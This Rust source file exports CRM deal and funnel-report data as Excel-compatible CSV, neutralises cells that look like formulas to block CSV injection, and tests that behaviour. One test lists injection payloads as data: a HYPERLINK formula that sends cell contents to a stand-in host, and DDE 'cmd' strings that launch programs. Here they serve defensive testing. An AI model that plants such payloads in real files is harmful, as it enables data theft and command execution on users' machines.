//! CSV files that open correctly in Excel and WPS: UTF-8 with a byte-order mark (without it
//! Excel reads Chinese as mojibake), CRLF line ends, RFC 4180 quoting.

use crate::analytics::Report;
use crate::domain::money::amount_to_input;
use crate::domain::Workspace;

const BOM: &str = "\u{feff}";

/// A text cell that Excel or WPS would read as a formula (=, +, -, @, or a tab or carriage
/// return before one) gets a leading apostrophe, as OWASP advises for CSV injection: the
/// spreadsheet then shows the text instead of running it.
pub fn neutralise(cell: String) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell
    }
}

fn write_rows(rows: impl IntoIterator<Item = Vec<String>>) -> String {
    let mut w = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
    for r in rows {
        // Numbers we format ourselves are never negative here; every cell is checked anyway.
        let r: Vec<String> = r.into_iter().map(neutralise).collect();
        // Writing into memory cannot fail.
        let _ = w.write_record(&r);
    }
    let bytes = w.into_inner().unwrap_or_default();
    format!("{BOM}{}", String::from_utf8(bytes).unwrap_or_default())
}

/// One row per deal of a pipeline (or all pipelines), with its current stage.
pub fn deals_csv(ws: &Workspace, pipeline: Option<&crate::domain::Id>) -> String {
    let header = [
        "id", "title", "account", "contact", "amount", "currency", "stage", "owner", "source", "created", "expected_close", "tags",
        "forecast_category", "lost_reason", "notes",
    ];
    let stage_name = |d: &crate::domain::Opportunity| {
        ws.pipeline(&d.pipeline).and_then(|p| p.stage(&d.stage)).map(|s| s.name.clone()).unwrap_or_default()
    };
    let rows = ws.live_deals().filter(|d| pipeline.is_none_or(|p| &d.pipeline == p)).map(|d| {
        vec![
            d.id.to_string(),
            d.title.clone(),
            d.account.clone(),
            d.contact.clone(),
            d.amount.map(amount_to_input).unwrap_or_default(),
            d.currency.clone(),
            stage_name(d),
            d.owner.clone(),
            d.source.clone(),
            d.created_at.format("%Y-%m-%d %H:%M").to_string(),
            d.expected_close.map(|c| c.to_string()).unwrap_or_default(),
            d.tags.join(", "),
            format!("{:?}", d.forecast_category),
            d.lost_reason.clone(),
            d.notes.clone(),
        ]
    });
    write_rows(std::iter::once(header.iter().map(|s| s.to_string()).collect()).chain(rows))
}

fn pct(v: Option<f64>) -> String {
    v.map(|x| format!("{:.1}", x * 100.0)).unwrap_or_default()
}

fn num(v: Option<f64>) -> String {
    v.map(|x| format!("{x:.2}")).unwrap_or_default()
}

/// The funnel report, one row per stage (percentages as numbers, days with 2 decimals).
pub fn report_csv(r: &Report) -> String {
    let header = [
        "stage", "deals_now", "amount_now", "reached", "drop_off_pct", "cohort", "to_next_pct", "to_next_closed_pct", "to_won_pct",
        "to_won_closed_pct", "dwell_p50_days", "dwell_p75_days", "dwell_p90_days", "stuck", "win_30d_pct", "win_60d_pct", "win_90d_pct",
    ];
    let rows = r.stages.iter().map(|s| {
        let c = s.conversion.clone();
        let win = |d: u32| {
            s.win_within.as_ref().and_then(|w| w.horizons.iter().find(|h| h.days == d)).map(|h| format!("{:.1}", h.won * 100.0)).unwrap_or_default()
        };
        vec![
            s.name.clone(),
            s.snapshot.deals.to_string(),
            amount_to_input(s.snapshot.amount),
            s.funnel.as_ref().map(|f| f.reached.to_string()).unwrap_or_default(),
            pct(s.funnel.as_ref().and_then(|f| f.drop_off)),
            c.as_ref().map(|c| c.cohort.to_string()).unwrap_or_default(),
            pct(c.as_ref().and_then(|c| c.next_to_date)),
            pct(c.as_ref().and_then(|c| c.next_closed)),
            pct(c.as_ref().and_then(|c| c.won_to_date)),
            pct(c.as_ref().and_then(|c| c.won_closed)),
            num(s.dwell.p50),
            num(s.dwell.p75),
            num(s.dwell.p90),
            s.dwell.stuck.len().to_string(),
            win(30),
            win(60),
            win(90),
        ]
    });
    write_rows(std::iter::once(header.iter().map(|s| s.to_string()).collect()).chain(rows))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::{demo, Lang};
    use crate::io::csv_import::read_table;
    use chrono::TimeZone;

    #[test]
    fn deals_csv_has_a_bom_crlf_and_round_trips_chinese_and_quotes() {
        let now = chrono::Utc.with_ymd_and_hms(2026, 11, 1, 0, 0, 0).unwrap();
        let mut ws = demo::generate(20, 1, 1, now, Lang::Zh);
        ws.deals[0].title = "客户 \"甲\", 第一期".into();
        ws.deals[0].notes = "line one\nline two".into();
        let text = deals_csv(&ws, None);
        assert!(text.starts_with('\u{feff}'));
        assert!(text.contains("\r\n"));
        let t = read_table(text.as_bytes()).unwrap();
        assert_eq!(t.rows.len(), 20);
        assert_eq!(t.rows[0][1], "客户 \"甲\", 第一期");
        assert_eq!(t.rows[0][14], "line one\nline two");
        assert_eq!(t.rows[0][6], ws.pipelines[0].stage(&ws.deals[0].stage).unwrap().name);
    }

    #[test]
    fn formulas_in_user_text_are_exported_as_text_in_both_files() {
        let now = chrono::Utc.with_ymd_and_hms(2026, 11, 1, 0, 0, 0).unwrap();
        let mut ws = demo::generate(6, 1, 1, now, Lang::En);
        let evil = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"y\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1"];
        for (d, e) in ws.deals.iter_mut().zip(evil) {
            d.title = e.to_string();
            d.account = e.to_string();
        }
        ws.pipelines[0].stages[0].name = "=1+1".into();
        let t = read_table(deals_csv(&ws, None).as_bytes()).unwrap();
        for (row, e) in t.rows.iter().zip(evil) {
            assert_eq!(row[1], format!("'{e}"));
            assert_eq!(row[2], format!("'{e}"));
        }
        assert!(t.rows.iter().flatten().all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])));
        let r = crate::analytics::report(&ws, &ws.pipelines[0], &crate::analytics::Query::new(now));
        let t = read_table(report_csv(&r).as_bytes()).unwrap();
        assert_eq!(t.rows[0][0], "'=1+1");
        // Ordinary text is untouched.
        assert_eq!(neutralise("Acme – 2+3".into()), "Acme – 2+3");
    }

    #[test]
    fn report_csv_has_a_row_per_stage() {
        let now = chrono::Utc.with_ymd_and_hms(2026, 11, 1, 0, 0, 0).unwrap();
        let ws = demo::generate(100, 1, 1, now, Lang::En);
        let r = crate::analytics::report(&ws, &ws.pipelines[0], &crate::analytics::Query::new(now));
        let t = read_table(report_csv(&r).as_bytes()).unwrap();
        assert_eq!(t.rows.len(), r.stages.len());
        assert_eq!(t.rows[0][3], r.stages[0].funnel.as_ref().unwrap().reached.to_string());
        assert_eq!(t.headers[0], "stage");
    }
}
